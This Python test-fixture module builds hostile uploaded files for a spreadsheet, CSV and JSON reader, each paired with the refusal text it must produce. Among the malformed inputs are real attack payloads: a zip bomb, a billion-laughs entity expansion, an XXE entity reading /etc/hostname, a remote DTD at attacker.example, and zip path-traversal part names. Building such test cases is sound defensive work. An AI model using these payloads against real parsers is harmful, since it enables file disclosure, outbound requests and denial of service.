"""Files that harm whoever opens them carelessly, each made here, with a word of the refusal it must meet."""

import io
import zipfile
from collections.abc import Callable

from actors.exchange import reading
from actors.exchange.writing import as_xlsx

MB = 1024 * 1024


def workbook(**changed: bytes) -> bytes:
    """A good workbook with parts replaced or added; names are written with ``__`` for ``/``."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(as_xlsx("sheet", ["key", "name"], [["XA", "Examples"]]))) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts |= {name.replace("__", "/"): data for name, data in changed.items()}
    room = io.BytesIO()
    with zipfile.ZipFile(room, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return room.getvalue()


def sheet(cells: str, head: str = "") -> bytes:
    names = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    top = '<row r="1"><c r="A1" t="inlineStr"><is><t>key</t></is></c></row>'
    text = f'<?xml version="1.0"?>{head}<worksheet {names}><sheetData>{top}{cells}</sheetData></worksheet>'
    return workbook(**{"xl__worksheets__sheet1.xml": text.encode()})


def encrypted() -> bytes:
    data = bytearray(workbook())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 1)
    return bytes(data)


def many_parts() -> bytes:
    return workbook(**{f"xl__extra{number}.bin": b"x" for number in range(250)})


HALF = '<row r="2"><c r="A2" t="inlineStr"><is><t>_xD800_</t></is></c></row>'
BOMB = "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '{'&a;' * 10}'>" for n in range(9)) + "]>"
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "only spaces": (lambda: b" \r\n\t", "empty"),
    "too large": (lambda: b"key\n" + b"x\n" * (3 * MB), "larger than"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"0" * 99, "no CSV"),
    "a PDF": (lambda: b"%PDF-1.7\n", "no CSV"),
    "a web page": (lambda: b"<!doctype html><p>key,name", "no CSV"),
    "gzip": (lambda: b"\x1f\x8b\x08" + b"0" * 99, "no CSV"),
    "an old or locked workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99, "password"),
    "a locked archive": (encrypted, "password"),
    "an archive of something else": (lambda: workbook(x=b"")[:60], "broken"),
    "a torn workbook": (lambda: workbook()[:-200], "broken"),
    "a zip bomb": (lambda: workbook(**{"xl__media__image1.bin": bytes(60 * MB)}), "Unpacked"),
    "a bomb within bounds": (lambda: sheet('<c r="A2"><v>1</v></c>' * 1_200_000), "broken|memory|more|cells"),
    "an archive in it": (lambda: workbook(**{"xl__inner.zip": workbook()}), "another archive"),
    "a part outside": (lambda: workbook(**{"..__..__evil.xml": b"<a/>"}), "outside"),
    "a part from the root": (lambda: workbook(__etc__passwd=b"x"), "outside"),
    "many parts": (many_parts, "parts"),
    "macros": (lambda: workbook(**{"xl__vbaProject.bin": b"x"}), "macros"),
    "entities that grow": (lambda: sheet('<row r="2"><c r="A2"><v>&a8;</v></c></row>', BOMB), "broken"),
    "an entity of the machine": (lambda: sheet('<row r="2"><c r="A2"><v>&x;</v></c></row>', OUTSIDE), "broken"),
    "a definition elsewhere": (lambda: sheet("", REMOTE), "broken"),
    "deep XML": (lambda: sheet("<row>" * 5000 + "</row>" * 5000), "no spreadsheet"),
    "a formula": (lambda: sheet('<row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>'), "A2 holds a formula"),
    "an error": (lambda: sheet('<row r="2"><c r="A2" t="e"><v>#REF!</v></c></row>'), "A2 holds an error"),
    "a far row": (lambda: sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), "more than 20000 rows"),
    "a far column": (lambda: sheet('<row r="2"><c r="XFD2"><v>1</v></c></row>'), "columns"),
    "many short rows": (lambda: b"key\n" + b"x\n" * 2_000_000, "more than 20000 rows"),
    "many columns": (lambda: b"," * 200 + b"x\n", "columns"),
    "a huge cell": (lambda: b"key\n" + b"x" * 3 * MB + b"\n", "too long"),
    "an open quotation": (lambda: b'key,name\nXA,"' + b"x\n" * 9000, "quotation|too long"),
    "a NUL byte": (lambda: b"key,name\nXA,a\x00b\n", "Line 2 holds a NUL"),
    "UTF-16 without its mark": (lambda: "key,name\nXA,a\n".encode("utf-16-le"), "NUL"),
    "half a letter in JSON": (lambda: b'{"persons": [{"id": "\\ud800"}]}', "half a letter"),
    "half a letter in a workbook": (lambda: sheet(HALF), "half a letter"),
    "a NUL in a workbook": (lambda: sheet(HALF.replace("D800", "0000")), "NUL"),
    "UTF-32": (lambda: "key,name\n".encode("utf-32"), "UTF-8"),
    "half a UTF-16 letter": (lambda: "key\nXA".encode("utf-16") + b"x", "not UTF-8"),
    "Windows-1252 unsaid": (lambda: "key,name\nXA,José\n".encode("cp1252"), "Line 2 is not UTF-8"),
    "mixed encodings": (lambda: "key\nJosé\n".encode() + "Zoë\n".encode("cp1252"), "Line 3 is written in another"),
    "a row too wide": (lambda: b"key,name\nXA,a,b\n", "Line 2 has more cells"),
    "a heading twice": (lambda: b"key,Key\nXA,a\n", "heading"),
    "no heading": (lambda: b"key,,name\nXA,a,b\n", "heading"),
    "torn JSON": (lambda: b'{"persons": [\n{"id": ', "line 2"),
    "deep JSON": (lambda: b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested deeper"),
    "JSON with a million values": (lambda: b'{"a": [' + b"[]," * 1_500_000 + b"[]]}", "more text|memory"),
    "JSON that is a list": (lambda: b'[{"id": "1"}]', "one object"),
    "a name twice in JSON": (lambda: b'{"persons": [], "persons": []}', "twice"),
    "no number in JSON": (lambda: b'{"persons": [NaN]}', "no number"),
    "a number without end": (lambda: b'{"a": ' + b"9" * 100_000 + b"}", "broken|more"),
}


def refusal(data: bytes, encoding: str = "") -> str:
    """The words of the refusal; empty when the file is read."""
    try:
        reading.read(data, encoding=encoding)
    except reading.Refused as error:
        return str(error)
    return ""
